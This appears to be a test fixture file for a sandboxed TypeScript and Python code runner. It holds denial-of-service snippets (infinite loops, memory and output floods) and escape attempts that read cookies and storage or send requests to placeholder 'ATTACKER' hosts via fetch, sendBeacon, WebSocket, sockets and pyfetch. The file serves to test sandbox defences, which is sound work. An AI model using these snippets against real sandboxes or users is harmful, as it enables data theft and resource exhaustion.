import type { Runtime } from '../../src/core/runner/runtime.ts';

/** Attacks by hostile code, in both languages. */
export const CODE: Record<Runtime, Record<string, string>> = {
	typescript: {
		loop: 'console.log("before"); while (true) {}',
		microtasks:
			'console.log("before"); const again = () => Promise.resolve().then(again); again(); await new Promise(() => {});',
		output: 'console.log("before"); while (true) console.log("a line of output that never ends");',
		memory:
			'console.log("before"); const all: unknown[] = []; while (true) all.push(new Array(100_000).fill(Math.random()));',
		quick: 'console.log("still here");',
	},
	python: {
		loop: 'print("before", flush=True)\nwhile True: pass',
		output: 'print("before")\nwhile True: print("a line of output that never ends")',
		memory: 'print("before", flush=True)\nall = []\nwhile True: all.append(bytearray(4_000_000))',
		quick: 'print("still here")',
	},
};

/** Attempts to escape. Each prints what it reached, which must be nothing. */
export const ESCAPES: Record<Runtime, string> = {
	typescript: `
		const attempts: Record<string, () => unknown> = {
			localStorage: () => (globalThis as any).localStorage.length,
			cookies: () => (globalThis as any).document.cookie,
			indexedDB: () => new Promise((resolve, reject) => {
				const open = indexedDB.open('hs'); open.onsuccess = resolve; open.onerror = () => reject(open.error);
			}),
			caches: () => caches.open('hs'),
			fetch: () => fetch('SITE/robots.txt').then((response) => response.text()),
			fetchOut: () => fetch('ATTACKER/steal', { mode: 'no-cors' }),
			beacon: () => { if (!navigator.sendBeacon('ATTACKER/beacon')) throw new Error('refused'); },
			xhr: () => new Promise((resolve, reject) => {
				const request = new XMLHttpRequest(); request.open('GET', 'ATTACKER/x');
				request.onload = resolve; request.onerror = () => reject(new Error('refused')); request.send();
			}),
			webSocket: () => new Promise((resolve, reject) => {
				const socket = new WebSocket('WS_ATTACKER/'); socket.onopen = resolve; socket.onerror = () => reject(new Error('refused'));
			}),
			eventSource: () => new Promise((resolve, reject) => {
				const source = new EventSource('ATTACKER/'); source.onopen = resolve; source.onerror = () => reject(new Error('refused'));
			}),
			importScripts: () => (globalThis as any).importScripts('ATTACKER/x.js'),
			dynamicImport: () => new Function('return import("ATTACKER/x.js")')(),
			eval: () => (0, eval)('1 + 1'),
			parentDocument: () => (globalThis as any).parent.document.title,
			top: () => (globalThis as any).top.location.href,
			opener: () => (globalThis as any).opener.document,
		};
		for (const [name, attempt] of Object.entries(attempts)) {
			try { console.log('GOT', name, String(await attempt())); } catch (error) { console.log('refused', name); }
		}`,
	python: `
import asyncio, sqlite3
async def main():
    async def attempt(name, do):
        try:
            result = do()
            if hasattr(result, '__await__'): result = await asyncio.wait_for(result, 2)
            print('GOT', name, str(result)[:80])
        except BaseException as error:
            print('refused', name)
    def from_js(name):
        import js
        return getattr(js, name)
    def run_js(code):
        from pyodide.code import run_js
        return run_js(code)
    def from_urllib():
        from urllib.request import urlopen
        return urlopen('ATTACKER/x', timeout=1).read()
    def from_socket():
        import socket
        connection = socket.create_connection(('127.0.0.1', ATTACKER_PORT), timeout=1)
        connection.sendall(b'GET / HTTP/1.0')
        return connection.recv(10)
    def from_constructor(name):
        import js
        return js.Object.constructor('return ' + name)()
    for name in ('localStorage', 'document', 'indexedDB', 'caches', 'fetch', 'WebSocket', 'parent', 'top', 'self'):
        await attempt('js.' + name, lambda: from_js(name))
    await attempt('run_js', lambda: run_js('fetch("ATTACKER/x")'))
    await attempt('constructor', lambda: from_constructor('self.indexedDB.open("x")'))
    await attempt('urllib', from_urllib)
    await attempt('socket', from_socket)
    async def pyfetch():
        from pyodide.http import pyfetch
        return await pyfetch('ATTACKER/x')
    await attempt('pyfetch', pyfetch)
asyncio.run(main())
`,
};
